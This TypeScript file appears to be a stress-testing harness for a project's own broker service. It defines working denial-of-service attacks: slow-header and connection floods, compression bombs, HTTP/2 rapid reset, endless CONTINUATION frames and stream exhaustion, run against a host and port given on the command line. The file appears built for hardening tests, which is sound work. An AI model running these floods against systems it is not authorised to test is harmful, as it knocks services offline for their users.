// A process that attacks a broker in one way, as fast as possible, until it is killed.
import { connect as connectHttp2, constants } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { gzipSync } from 'node:zlib';

export interface Target {
  http: { host: string; port: number };
  grpc: { host: string; port: number };
  /** A key that may read machines. */
  key: string;
}

type Assault = (target: Target) => Promise<void>;

const enrol = {
  ':method': 'POST',
  ':path': '/farhand.link.v1.Link/Enroll',
  'content-type': 'application/grpc',
};

const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => void socket.on('error', () => undefined).once('close', () => resolve()));

/** Keeps `count` connections open. A connection that is cut is opened again. */
async function crowd(count: number, one: () => Promise<void>): Promise<void> {
  const again = async (): Promise<void> => {
    for (;;) {
      await one();
      await sleep(1);
    }
  };
  await Promise.all(Array.from({ length: count }, again));
}

/** Writes what `next` returns, again and again, until the connection is closed. */
function pouring(socket: Socket, next: () => Buffer | string): Promise<void> {
  const pour = (): void => {
    while (!socket.destroyed && socket.write(next()));
  };
  socket.on('drain', pour).resume();
  pour();
  return closed(socket);
}

/** Calls `next` at once and after each part of an answer, and sends its result, until the connection is closed. */
function repeating({ http }: Target, next: () => Buffer | string): Promise<void> {
  const socket = connect(http);
  const send = (): void => void socket.write(next());
  socket.on('data', send);
  send();
  return closed(socket);
}

function post(target: Target, body: string, key = target.key): string {
  return `POST /api/v1/join-tokens HTTP/1.1\r\nHost: b\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}

function overTls({ grpc }: Target) {
  const socket = connectTls({ ...grpc, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
  socket.on('error', () => undefined);
  return socket;
}

function session({ grpc }: Target) {
  const opened = connectHttp2(`https://${grpc.host}:${grpc.port}`, { rejectUnauthorized: false });
  opened.on('error', () => undefined);
  return opened;
}

/** Calls `work` again and again on one connection, until the connection is cut. */
async function onSession(target: Target, work: (opened: ReturnType<typeof session>) => void): Promise<void> {
  const opened = session(target);
  const over = new Promise<void>((resolve) => opened.once('close', () => resolve()));
  const turn = (): void => {
    if (opened.destroyed || opened.closed) {
      opened.destroy();
      return;
    }
    work(opened);
    setImmediate(turn);
  };
  opened.once('connect', turn);
  await over;
}

function call(opened: ReturnType<typeof session>, more: Record<string, string> = {}) {
  const stream = opened.request({ ...enrol, ...more });
  stream.on('error', () => undefined);
  return stream;
}

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  Buffer.of(0, 0, 0, 4, 0, 0, 0, 0, 0),
]);
/**
 * Header fields that never end: `unending` is a HEADERS frame without the flag END_HEADERS. After it, the attacker
 * repeats `more`, a CONTINUATION frame with a header field of 100 bytes.
 */
const unending = Buffer.of(0, 0, 1, 1, 0, 0, 0, 0, 1, 0x83);
const more = Buffer.concat([Buffer.of(0, 0, 104, 9, 0, 0, 0, 0, 1, 0, 1, 0x78, 100), Buffer.alloc(100, 'x')]);

/** 64 MiB that are compressed to 64 KiB. */
const bomb = (): Buffer => gzipSync(Buffer.alloc(64 * 1024 * 1024));

export const assaults: Record<string, Assault> = {
  'HTTP: 2,000 silent connections': ({ http }) => crowd(2_000, () => closed(connect(http))),
  'HTTP: 500 slow headers': ({ http }) =>
    crowd(500, () => {
      const socket = connect(http);
      socket.write('GET /healthz HTTP/1.1\r\nX: ');
      const dripping = setInterval(() => socket.write('x'), 500);
      return closed(socket).finally(() => clearInterval(dripping));
    }),
  'HTTP: wrong keys, 16 connections': (target) =>
    crowd(16, () => repeating(target, () => post(target, '{}', 'service_apikey_wrong'))),
  'HTTP: pipelined requests, 4 connections': ({ http }) =>
    crowd(4, () => pouring(connect(http), () => 'GET /healthz HTTP/1.1\r\nHost: b\r\n\r\n'.repeat(200))),
  'HTTP: bodies of 1 MiB, one after another': (target) =>
    crowd(1, () => {
      const bodies = [`{"tags":[${'0,'.repeat(500_000)}0]}`, `{"name":${'['.repeat(500_000)}`];
      let n = 0;
      return repeating(target, () => post(target, bodies[n++ % 2] ?? ''));
    }),
  'HTTP: headers without end, 8 connections': ({ http }) =>
    crowd(8, () => {
      const socket = connect(http);
      socket.write('GET /healthz HTTP/1.1\r\n');
      return pouring(socket, () => `X: ${'x'.repeat(1_000)}\r\n`.repeat(20));
    }),
  'HTTP: compression bombs, 8 connections': (target) => {
    const body = bomb();
    const head = `POST /api/v1/join-tokens HTTP/1.1\r\nHost: b\r\nAuthorization: Bearer ${target.key}\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`;
    const request = Buffer.concat([Buffer.from(head), body]);
    return crowd(8, () => repeating(target, () => request));
  },
  'gRPC: compression bombs, 4 connections': (target) => {
    const body = bomb();
    const head = Buffer.alloc(5, 1);
    head.writeUInt32BE(body.length, 1);
    return crowd(4, () =>
      onSession(target, (opened) => {
        call(opened, { 'grpc-encoding': 'gzip' })
          .resume()
          .end(Buffer.concat([head, body]));
      }),
    );
  },
  'gRPC: 1,000 silent connections': ({ grpc }) => crowd(1_000, () => closed(connect(grpc))),
  'gRPC: TLS handshakes, 4 at once': (target) =>
    crowd(4, () => {
      const socket = overTls(target);
      socket.once('secureConnect', () => socket.destroy());
      return closed(socket);
    }),
  'gRPC: rapid reset, 4 connections': (target) =>
    crowd(4, () =>
      onSession(target, (opened) => {
        for (let n = 0; n < 50; n += 1) call(opened).close(constants.NGHTTP2_CANCEL);
      }),
    ),
  'gRPC: header blocks that never end, 4 connections': (target) =>
    crowd(4, () => {
      const socket = overTls(target);
      socket.write(preface);
      socket.write(unending);
      return pouring(socket, () => more);
    }),
  'gRPC: pings and settings, 4 connections': (target) =>
    crowd(4, () =>
      onSession(target, (opened) => {
        for (let n = 0; n < 50; n += 1) opened.ping(() => undefined);
        opened.settings({ initialWindowSize: 65_535 });
      }),
    ),
  'gRPC: 5,000 streams, 4 connections': (target) =>
    crowd(4, () =>
      onSession(target, (opened) => {
        for (let n = 0; n < 5_000 && !opened.destroyed; n += 1) call(opened);
      }),
    ),
  'gRPC: large messages without a key, 8 connections': (target) =>
    crowd(8, () =>
      onSession(target, (opened) => {
        const stream = call(opened);
        stream.write(Buffer.concat([Buffer.of(0, 0, 16, 0, 0), Buffer.alloc(512 * 1024)]));
      }),
    ),
};

const [name = '', target = '{}'] = process.argv.slice(2);
const assault = assaults[name];
if (assault) {
  process.stderr.write('{"msg":"attacking"}\n');
  await assault(JSON.parse(target) as Target);
}
